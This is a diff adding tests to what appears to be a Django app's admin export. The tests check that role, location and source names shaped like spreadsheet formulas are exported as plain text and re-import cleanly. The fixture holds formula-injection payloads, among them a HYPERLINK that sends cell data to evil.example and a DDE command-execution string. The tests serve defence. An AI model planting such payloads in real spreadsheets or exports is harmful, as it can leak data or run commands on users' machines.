@@ -419,6 +419,62 @@ def test_bands_export_as_xlsx(admin_client, market) -> None:
     assert [cell.value for cell in sheet[1]] == EXPORT_HEADER
 
 
+FORMULA_NAMES = {
+    "role": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "level": "+Lead",
+    "location": "@SUM(1)",
+    "industry": "-2+3",
+    "company_size": "\tStartup",
+    "source": "=cmd|' /C calc'!A0",
+    "source_release": "\r2024",
+}
+
+
+def _band_named_like_formulas(market, names=FORMULA_NAMES) -> Band:
+    role = RoleFactory(name=names["role"], slug="evil-role", occupation=market["role"].occupation)
+    return BandFactory(
+        occupation=role.occupation,
+        role=role,
+        level=LevelFactory(name=names["level"], slug="lead", rank=35),
+        location=LocationFactory(name=names["location"], kind="city", country="GB"),
+        industry=IndustryFactory(name=names["industry"], naics_code=""),
+        company_size=CompanySizeFactory(name=names["company_size"], slug="startup", rank=10),
+        source=SourceFactory(name=names["source"], release=names["source_release"]),
+    )
+
+
+def test_exported_names_that_look_like_formulas_stay_text(admin_client, market) -> None:
+    _band_named_like_formulas(market)
+
+    rows = list(csv.reader(io.StringIO(_export(admin_client, "0").content.decode("utf-8-sig"))))
+    row = next(r for r in rows if r[1].endswith('"Open")'))
+    exported = dict(zip(EXPORT_HEADER, row, strict=True))
+    # As in the compare export: a leading apostrophe keeps a spreadsheet from running it.
+    for column, name in FORMULA_NAMES.items():
+        assert exported[column] == "'" + name, column
+    sheet = load_workbook(io.BytesIO(_export(admin_client, "1").content)).active
+    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line
+                if cell.data_type == "f"]  # fmt: skip
+
+
+def test_an_exported_sheet_with_formula_like_names_imports_back_unchanged(
+    admin_client, market
+) -> None:
+    # A carriage return inside a cell reads back as a line break, so this one starts with "-".
+    _band_named_like_formulas(market, FORMULA_NAMES | {"source_release": "-2024"})
+    exported = _export(admin_client, "0").content
+
+    preview = admin_client.post(
+        reverse("admin:benchmarks_band_import"),
+        {"resource": "0", "format": "0", "import_file": _upload("bands.csv", exported)},
+    )
+
+    result = preview.context["result"]
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert result.totals["new"] == 0
+    assert result.totals["skip"] == Band.objects.count()
+
+
 # --------------------------------------------------------------------------- recompute
 
 
